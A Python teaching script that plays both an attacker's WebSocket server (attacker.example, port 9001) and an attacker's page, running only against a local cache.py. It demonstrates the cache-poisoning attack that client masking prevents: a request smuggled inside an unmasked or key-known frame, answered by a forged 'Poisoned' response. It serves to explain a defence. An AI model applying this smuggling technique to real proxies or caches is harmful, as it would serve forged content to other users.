#!/usr/bin/env python3
"""The attack that masking prevents, on your own machine, against cache.py.

Usage: python3 attack.py                the browser does not mask
       python3 attack.py KEY            the browser masks with this key, for example 37fa213d
       python3 attack.py KEY --known    the same, and the attacker knew the key in advance

It plays the server attacker.example, on port 9001, and the attacker's page together with the browser that shows it.
"""

import base64
import hashlib
import socket
import sys
import threading

GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
KEY = "dGhlIHNhbXBsZSBub25jZQ=="

# What the attacker's page sends as a message. It looks like a request.
MESSAGE = b"GET / HTTP/1.1\r\nHost: school.example\r\n\r\n"

# What the attacker's server sends, whatever the message is. It looks like a response.
BODY = b"Poisoned: this page is from the attacker.\n"
RESPONSE = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(BODY), BODY)


def xor(data, key):
    """Masks data, or unmasks it."""
    return bytes(byte ^ key[i % 4] for i, byte in enumerate(data))


def attackers_server(listener):
    client, _ = listener.accept()
    client.recv(4096)
    accept = base64.b64encode(hashlib.sha1((KEY + GUID).encode()).digest())
    client.sendall(
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Accept: %s\r\n\r\n" % accept
    )
    client.recv(4096)
    client.sendall(RESPONSE)
    client.close()


def attackers_page(message, key):
    # The browser connects to the attacker's server, and the cache is in between.
    with socket.create_connection(("localhost", 9000)) as browser:
        browser.sendall(
            b"GET /socket HTTP/1.1\r\nHost: attacker.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: %s\r\n\r\n" % KEY.encode()
        )
        print("handshake:  ", browser.recv(4096).decode().split("\r\n")[0])
        if key:
            frame = bytes([0x81, 0x80 | len(message)]) + key + xor(message, key)
        else:
            frame = bytes([0x81, len(message)]) + message
        print("on the wire:", frame[:20].hex(" "), "...")
        print("as text:    ", "".join(chr(byte) if 32 <= byte < 127 else "." for byte in frame[:20]), "...")
        browser.sendall(frame)
        browser.shutdown(socket.SHUT_WR)
        browser.recv(4096)


try:
    key = bytes.fromhex(sys.argv[1]) if len(sys.argv) > 1 else b""
    if len(key) not in (0, 4):
        raise ValueError
except ValueError:
    sys.exit(__doc__)
try:
    listener = socket.create_server(("localhost", 9001))
    threading.Thread(target=attackers_server, args=[listener], daemon=True).start()
    # Masked twice with the same key is not masked at all.
    attackers_page(xor(MESSAGE, key) if "--known" in sys.argv else MESSAGE, key)
except OSError as error:
    sys.exit(f"{error}: is cache.py running?")
